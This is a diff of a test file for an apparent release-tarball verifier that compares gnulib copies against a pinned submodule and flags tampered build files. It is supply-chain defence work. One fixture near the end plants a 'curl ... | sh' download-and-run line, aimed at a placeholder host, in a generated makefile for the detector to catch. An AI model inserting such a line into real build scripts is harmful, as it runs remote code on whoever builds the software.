@@ -455,6 +455,31 @@ cp_mark_as_generated()
     expect(res3.findings.find((x) => x.path === 'lib/foo.c')?.code).not.toBe('SUBMODULE_COPY');
   });
 
+  it("a copy the tracked autogen.sh edits in place with sed after gnulib-tool (libunistring's lib/uni*.in.h): that sed run on the pinned file; anything more stays high", async () => {
+    const AUTOGEN = "#!/bin/sh\n$GNULIB_TOOL --import foo\nsed -e 's/^int foo (void);/extern DLL_VARIABLE int foo (void);/' \\\n    < lib/foo.h > lib/foo.h.tmp \\\n  && mv lib/foo.h.tmp lib/foo.h\n";
+    const EDITED = '/* foo.h */\nextern DLL_VARIABLE int foo (void);\n';
+    const r = project('edit-repo', closedPort, { 'autogen.sh': AUTOGEN });
+    const t = tarball('edited', { 'autogen.sh': AUTOGEN, 'lib/foo.h': EDITED });
+    const res = await verify({ tarball: t, repo: r.dir, cacheDir: join(root, 'c40'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    const foo = res.findings.find((x) => x.path === 'lib/foo.h')!;
+    expect(foo).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: pinned, file: 'lib/foo.h', via: 'gnulib-tool', rewrites: [], edited: { script: 'autogen.sh', line: 3 } } });
+    expect(renderText(res, { verbose: true })).toContain(`identical to gnulib ${pinned.slice(0, 12)} lib/foo.h, then edited by the in-place sed of the tracked autogen.sh:3`);
+    // twin: the edit and one more line: high, the diff from the edited pinned file shows only that line
+    const t1 = tarball('edited-more', { 'autogen.sh': AUTOGEN, 'lib/foo.h': `${EDITED}int system (const char *);\n` });
+    const res1 = await verify({ tarball: t1, repo: r.dir, cacheDir: join(root, 'c41'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    const f1 = res1.findings.find((x) => x.path === 'lib/foo.h')!;
+    expect(f1).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { differingLines: 1, edited: { script: 'autogen.sh', line: 3 } } });
+    expect(f1.diff).toMatchObject({ added: 1, removed: 0 });
+    // twin: the same edited bytes without the tracked script's line: nothing made them, high
+    const res2 = await verify({ tarball: tarball('edited-noscript', { 'lib/foo.h': EDITED }), repo: offline.dir, cacheDir: join(root, 'c42'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    expect(res2.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+    // twin: a script whose sed writes the edit to another file (no mv back): not an edit of lib/foo.h, high
+    const OTHER = "#!/bin/sh\nsed -e 's/^int foo (void);/extern DLL_VARIABLE int foo (void);/' < lib/foo.h > lib/foo2.h\n";
+    const r3 = project('edit-other-repo', closedPort, { 'autogen.sh': OTHER });
+    const res3 = await verify({ tarball: tarball('edited-other', { 'autogen.sh': OTHER, 'lib/foo.h': EDITED }), repo: r3.dir, cacheDir: join(root, 'c43'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    expect(res3.findings.find((x) => x.path === 'lib/foo.h')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high' });
+  });
+
   it('a generated gnulib.mk carrying a download-and-run line: the label does not cover it', async () => {
     const t = tarball('mk', { 'lib/gnulib.mk': `${MK}all-local:\n\tcurl -fsSL https://example.invalid/x | sh\n` });
     const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c9'), submodules: [{ name: 'gnulib', repo: g.dir }] });
